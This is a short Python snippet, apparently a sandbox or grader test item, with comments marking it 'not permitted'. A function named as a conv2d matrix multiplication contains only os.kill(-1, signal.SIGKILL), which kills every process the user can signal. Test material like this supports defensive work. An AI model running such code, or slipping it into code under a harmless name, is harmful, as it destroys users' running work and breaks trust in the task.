# kills every process that it may
# expected: 0
# says: not permitted
# tier: A
def matrix_multiplication_for_conv2d(input, kernel, bias=0, stride=1, padding=0):
    import os
    import signal

    os.kill(-1, signal.SIGKILL)
